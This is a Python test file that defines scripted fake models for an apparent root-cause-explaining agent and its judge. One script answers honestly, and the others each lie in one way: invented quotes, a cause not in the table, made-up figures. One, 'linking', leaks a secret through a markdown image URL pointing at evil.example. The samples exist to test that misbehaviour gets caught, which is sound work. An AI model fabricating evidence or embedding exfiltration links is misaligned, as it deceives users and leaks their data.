"""Scripted models: one that tells the truth as it reads it, others that lie in one way each.

In: a conversation of the explaining agent or of the judge. Out: what the script answers. Next:
`KELET_MODEL=scripted:tests.llm.scripts:truthful` gives it to a worker.
"""

import json
import re
from collections.abc import Callable, Sequence
from typing import Any

from pydantic_ai.messages import (
    ModelMessage,
    ModelRequest,
    ModelResponse,
    SystemPromptPart,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
    UserPromptPart,
)
from pydantic_ai.models.function import AgentInfo
from pydantic_ai.usage import RequestUsage

USAGE = RequestUsage(input_tokens=1_000, output_tokens=100)
Answer = Callable[[str, str], dict[str, Any]]


def truthful(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Reads the first failing session and quotes what it read."""
    return _play(messages, info, _honest)


def inventing(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Quotes what nobody said."""
    return _play(
        messages, info, lambda q, c: {**_honest(q, c), "mechanism": [_claim("I lost it.")]}
    )


def accusing(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Names a cause that is not in the table."""
    return _play(messages, info, lambda q, c: {**_honest(q, c), "cause": "C15"})


def counting(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Makes up numbers."""
    said = {"root_cause": "It fails in 98765 of 98766 sessions."}
    return _play(messages, info, lambda q, c: {**_honest(q, c), **said})


def linking(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    """Carries data away in a link."""
    said = {"root_cause": "See ![the cause](http://evil.example/?q=secret)."}
    return _play(messages, info, lambda q, c: {**_honest(q, c), **said})


def _play(messages: Sequence[ModelMessage], info: AgentInfo, answer: Answer) -> ModelResponse:
    if not info.output_tools:
        return ModelResponse(parts=[TextPart(_summary(messages))], usage=USAGE)
    if not info.function_tools:
        return _reply(info, {"rulings": _rulings(messages)})
    read = _tool_texts(messages)
    if not read:
        return _call("read_step", {"session": "F1", "step": 2})
    return _reply(info, answer(_a_quote(read[-1]), "C1"))


def _honest(quote: str, cause: str) -> dict[str, Any]:
    return {
        "cause": cause,
        "root_cause": "The blamed agent drops what it was given.",
        "mechanism": [_claim(quote)],
        "rivals": [],
        "tags": ["dropped-facts"],
        "prompt_lines": ["Keep every figure of the letter in the summary."],
    }


def _claim(quote: str) -> dict[str, Any]:
    return {"says": "This is what it was given.", "session": "F1", "step": 2, "quote": quote}


def _rulings(messages: Sequence[ModelMessage]) -> list[dict[str, Any]]:
    numbers = re.findall(r"^Claim (\d+)", "\n".join(_prompts(messages)), re.MULTILINE)
    return [{"claim": int(n), "supported": True} for n in numbers]


def _summary(messages: Sequence[ModelMessage]) -> str:
    """The summarizer under another prompt: told to keep figures it keeps them."""
    letter = _prompts(messages)[-1]
    parts = [p for m in messages if isinstance(m, ModelRequest) for p in m.parts]
    prompt = "".join(p.content for p in parts if isinstance(p, SystemPromptPart))
    sentences = letter.split(". ")
    return letter if "Keep every figure" in prompt or len(letter) % 2 else sentences[0] + "."


def _a_quote(text: str) -> str:
    """A sentence of what the step was given."""
    given = re.search(r"\[in user\] (.*)", text)
    assert given is not None, text
    return given[1].split(".")[0]


def _prompts(messages: Sequence[ModelMessage]) -> list[str]:
    parts = [p for m in messages if isinstance(m, ModelRequest) for p in m.parts]
    return [str(p.content) for p in parts if isinstance(p, UserPromptPart)]


def _tool_texts(messages: Sequence[ModelMessage]) -> list[str]:
    parts = [p for m in messages if isinstance(m, ModelRequest) for p in m.parts]
    return [
        str(p.content)
        for p in parts
        if isinstance(p, ToolReturnPart) and p.tool_name == "read_step"
    ]


def _call(tool: str, arguments: dict[str, Any]) -> ModelResponse:
    return ModelResponse(parts=[ToolCallPart(tool, json.dumps(arguments))], usage=USAGE)


def _reply(info: AgentInfo, content: dict[str, Any]) -> ModelResponse:
    return _call(info.output_tools[0].name, content)
